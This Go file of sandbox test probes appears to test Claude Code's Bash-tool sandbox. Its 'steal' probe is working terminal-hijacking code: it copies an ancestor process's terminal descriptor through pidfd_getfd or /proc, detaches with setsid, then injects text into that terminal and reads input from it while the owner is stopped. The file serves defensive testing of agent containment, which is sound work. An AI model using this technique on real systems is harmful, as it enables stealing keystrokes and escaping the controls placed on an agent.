package testscripts

import (
	"fmt"
	"os"
	"os/signal"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// The probes a terminal session needs: a stand-in for Claude Code's
// interface, and the attack on the terminal.
func init() {
	probes["tui"] = tui
	probes["steal"] = steal
	probes["devtty"] = devtty
}

// devtty opens /dev/tty, the controlling terminal, for reading and writing.
func devtty(string) error {
	fd, err := unix.Open("/dev/tty", unix.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		return err
	}
	unix.Close(fd)
	fmt.Println("devtty: opened")
	return nil
}

// tui stands in for Claude Code's interface: its terminal in raw mode (as
// Node's setRawMode leaves it: no echo, no line editing, no signals from
// keys, output still processed), it prints each line typed as "line: TEXT",
// and its window size ROWSxCOLS when it starts ("tui ready"), on SIGWINCH
// ("size") and when continued ("resumed"). Like Claude Code it handles the
// keys itself: ^Z gives the terminal its modes back and stops its own
// process group with SIGTSTP, ^C prints "interrupted" and exits 130, ^D
// prints "bye" and exits 0.
func tui(string) error {
	saved, err := unix.IoctlGetTermios(0, unix.TCGETS)
	if err != nil {
		return err
	}
	raw := *saved
	raw.Iflag &^= unix.BRKINT | unix.ICRNL | unix.INPCK | unix.ISTRIP | unix.IXON
	raw.Lflag &^= unix.ECHO | unix.ICANON | unix.IEXTEN | unix.ISIG
	raw.Cc[unix.VMIN], raw.Cc[unix.VTIME] = 1, 0
	enter := func() { _ = unix.IoctlSetTermios(0, unix.TCSETS, &raw) }
	leave := func() { _ = unix.IoctlSetTermios(0, unix.TCSETS, saved) }
	size := func() string {
		ws, err := unix.IoctlGetWinsize(1, unix.TIOCGWINSZ)
		if err != nil {
			return err.Error()
		}
		return fmt.Sprintf("%dx%d", ws.Row, ws.Col)
	}
	events := make(chan os.Signal, 4)
	signal.Notify(events, syscall.SIGWINCH, syscall.SIGCONT)
	enter()
	defer leave()
	fmt.Printf("tui ready %s\n", size())
	keys := make(chan byte)
	go func() {
		b := make([]byte, 1)
		for {
			if n, err := os.Stdin.Read(b); n == 1 {
				keys <- b[0]
			} else if err != nil {
				close(keys)
				return
			}
		}
	}()
	line := ""
	for {
		select {
		case sig := <-events:
			if sig == syscall.SIGCONT {
				enter()
				fmt.Printf("resumed %s\n", size())
			} else {
				fmt.Printf("size %s\n", size())
			}
		case k, ok := <-keys:
			switch {
			case !ok || k == 4:
				fmt.Println("bye")
				return nil
			case k == 3:
				fmt.Println("interrupted")
				leave()
				os.Exit(130)
			case k == 26:
				leave()
				fmt.Println("suspending")
				_ = unix.Kill(0, syscall.SIGTSTP)
			case k == '\r':
				fmt.Printf("line: %s\n", line)
				line = ""
			default:
				line += string(k)
			}
		}
	}
}

// steal FD:OUT is the attack on the terminal: it opens the terminal of its
// nearest ancestor that has one as descriptor FD (its parent, for the
// stand-in interface; Claude, for a command Claude's Bash tool runs)
// with pidfd_getfd(2) or through /proc/PID/fd/FD, and leaves the session (setsid), so that no job
// control applies to it. Once that ancestor has stopped, it records "saw
// the stop" in OUT and, until the ancestor runs again ("saw the resume"),
// writes "THIEF-WROTE-WHILE-STOPPED" to that terminal every 50 ms and
// records everything it can read from it as "read while stopped: ...".
func steal(arg string) error {
	fdName, out, _ := strings.Cut(arg, ":")
	pid, fd := "", -1
	for p := os.Getppid(); p > 1 && fd < 0; p = parentOf(p) {
		f, err := ancestorFD(p, fdName)
		if err != nil {
			continue
		}
		if _, err := unix.IoctlGetTermios(f, unix.TCGETS); err != nil {
			unix.Close(f)
			continue
		}
		pid, fd = fmt.Sprint(p), f
	}
	if fd < 0 {
		return fmt.Errorf("no ancestor has a terminal as descriptor %s", fdName)
	}
	if _, err := unix.Setsid(); err != nil {
		return err
	}
	f, err := os.Create(out)
	if err != nil {
		return err
	}
	defer f.Close()
	fmt.Fprintln(f, "opened the terminal")
	stopped := func() (bool, bool) {
		b, err := os.ReadFile("/proc/" + pid + "/stat")
		if err != nil {
			return false, false
		}
		fields := strings.Fields(string(b[strings.LastIndexByte(string(b), ')')+1:]))
		return len(fields) > 0 && fields[0] == "T", true
	}
	for {
		s, alive := stopped()
		if !alive {
			return nil
		}
		if s {
			break
		}
		time.Sleep(20 * time.Millisecond)
	}
	fmt.Fprintln(f, "saw the stop")
	buf := make([]byte, 256)
	for {
		if s, _ := stopped(); !s {
			fmt.Fprintln(f, "saw the resume")
			return nil
		}
		_, _ = unix.Write(fd, []byte("THIEF-WROTE-WHILE-STOPPED\r\n"))
		pfd := []unix.PollFd{{Fd: int32(fd), Events: unix.POLLIN}}
		if n, _ := unix.Poll(pfd, 50); n > 0 {
			if n, err := unix.Read(fd, buf); n > 0 {
				fmt.Fprintf(f, "read while stopped: %q\n", buf[:n])
			} else if err != nil {
				time.Sleep(50 * time.Millisecond)
			}
		}
	}
}

// ancestorFD is a copy of descriptor fdName of process pid: the very open
// file, read and write, through pidfd_getfd(2); where that is refused, the
// file reopened for reading through /proc/PID/fd (the warden refuses to
// reopen another process's descriptor for writing).
func ancestorFD(pid int, fdName string) (int, error) {
	target := 0
	fmt.Sscan(fdName, &target)
	if pidfd, err := unix.PidfdOpen(pid, 0); err == nil {
		fd, err := unix.PidfdGetfd(pidfd, target, 0)
		unix.Close(pidfd)
		if err == nil {
			return fd, nil
		}
	}
	return unix.Open(fmt.Sprintf("/proc/%d/fd/%s", pid, fdName), unix.O_RDONLY|unix.O_NOCTTY, 0)
}

// parentOf is a process's parent, or 0.
func parentOf(pid int) int {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
	if err != nil {
		return 0
	}
	fields := strings.Fields(string(b[strings.LastIndexByte(string(b), ')')+1:]))
	if len(fields) < 2 {
		return 0
	}
	var ppid int
	fmt.Sscan(fields[1], &ppid)
	return ppid
}
